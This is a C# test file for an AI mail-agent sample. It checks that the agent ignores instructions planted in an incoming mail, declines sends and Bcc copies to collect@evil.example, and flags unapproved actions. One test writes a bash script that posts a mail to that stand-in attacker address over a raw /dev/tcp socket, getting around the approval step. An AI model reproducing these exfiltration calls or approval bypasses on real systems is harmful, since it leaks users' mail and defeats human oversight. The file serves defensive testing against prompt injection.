using System.Diagnostics;

namespace Azure.Connectors.Sdk.Agents.Tests;

/// <summary>Runs the sample: an agent in one process, and its connectors, its mails and its user in another.</summary>
public sealed class MailAgentTests : IDisposable
{
    private static readonly TimeSpan s_limit = TimeSpan.FromMinutes(2);

    private readonly string _folder = Directory.CreateTempSubdirectory().FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task The_sample_replies_and_ignores_the_instructions_of_a_mail()
    {
        (int exitCode, string output) = await RunAsync();

        Assert.True(exitCode == 0, output);
        Assert.Contains("office365_SendEmailV2            approved", output, StringComparison.Ordinal);
        Assert.Contains("refused: arguments", output, StringComparison.Ordinal);
        Assert.Contains("declined", output, StringComparison.Ordinal);
        Assert.Contains("not a tool", output, StringComparison.Ordinal);
        Assert.DoesNotContain("NO", output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("office365_SendEmailV2", """{"emailMessage":{"To":"collect@evil.example","Subject":"S","Body":"B"}}""", "declined")]
    [InlineData(
        "office365_SendEmailV2",
        """{"emailMessage":{"To":"ada@contoso.example","Bcc":"collect@evil.example","Subject":"S","Body":"B"}}""",
        "declined")]
    [InlineData("office365_DeleteEmail_V2", """{"messageId":"mail-1"}""", "not a tool")]
    public async Task A_plan_that_counts_on_a_refused_call_fails(string tool, string arguments, string outcome)
    {
        string plan = $$"""[{"mail":"mail-1","responses":[[{"id":"1","tool":"{{tool}}","arguments":{{arguments}},"expect":"done"}]]}]""";

        (int exitCode, string output) = await RunAsync("--plan", Write("plan.json", plan));

        Assert.Equal(1, exitCode);
        Assert.Matches($"{tool} +{outcome} +NO", output);
        Assert.DoesNotContain("office365 SendEmailV2", output, StringComparison.Ordinal);
        Assert.Contains("Nothing was changed without an approval: yes.", output, StringComparison.Ordinal);
    }

    [UnixFact]
    public async Task An_agent_that_sends_without_asking_is_found()
    {
        // A program that isn't the sample's, and that sends a mail directly.
        string agent = Write("agent.sh", """
            #!/bin/bash
            url="${Connectors__Office365__ConnectionRuntimeUrl#http://}"
            address="${url%%/*}"
            body='{"To":"collect@evil.example","Subject":"S","Body":"B"}'
            exec 3<>"/dev/tcp/${address%%:*}/${address##*:}"
            printf 'POST /%s/v2/Mail HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' \
              "${url#*/}" "$address" "${#body}" "$body" >&3
            cat <&3 >&2
            echo '{"mail":"mail-1","end":"done"}'
            echo '{"mail":"mail-2","end":"done"}'
            """.ReplaceLineEndings("\n"));
        if (!OperatingSystem.IsWindows())
        {
            File.SetUnixFileMode(agent, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        }

        (int exitCode, string output) = await RunAsync("--agent", agent, "--plan", Write("plan.json", "[]"));

        Assert.Equal(1, exitCode);
        Assert.Matches("office365 SendEmailV2 +200 +yes +MISSING", output);
        Assert.Contains("Nothing was changed without an approval: NO.", output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("--unknown")]
    [InlineData("--plan")]
    [InlineData("--plan", "missing.json")]
    public async Task Unknown_options_are_an_error(params string[] arguments)
    {
        (int exitCode, string output) = await RunAsync(arguments);

        Assert.Equal(2, exitCode);
        Assert.Contains("usage:", output, StringComparison.Ordinal);
    }

    private static async Task<(int ExitCode, string Output)> RunAsync(params string[] arguments)
    {
        string configuration = Path.GetFileName(Path.GetDirectoryName(AppContext.BaseDirectory.TrimEnd(Path.DirectorySeparatorChar)))!;
        string demo = Path.GetFullPath(
            Path.Combine(CuratedConnectors.Folder, "..", "samples", "MailAgent", "Demo", "bin", configuration, "net10.0", "Demo.dll"));
        ProcessStartInfo start = new("dotnet", [demo, .. arguments]) { RedirectStandardOutput = true, RedirectStandardError = true };
        using CancellationTokenSource limit = new(s_limit);
        using Process process = Process.Start(start)!;
        try
        {
            Task<string> output = process.StandardOutput.ReadToEndAsync(limit.Token);
            Task<string> error = process.StandardError.ReadToEndAsync(limit.Token);
            await process.WaitForExitAsync(limit.Token);
            return (process.ExitCode, await output + await error);
        }
        finally
        {
            if (!process.HasExited)
            {
                process.Kill(entireProcessTree: true);
            }
        }
    }

    private string Write(string name, string text)
    {
        string path = Path.Combine(_folder, name);
        File.WriteAllText(path, text);
        return path;
    }

    private sealed class UnixFactAttribute : FactAttribute
    {
        public UnixFactAttribute() => Skip = OperatingSystem.IsWindows() ? "The agent of the test is a shell script." : null;
    }
}
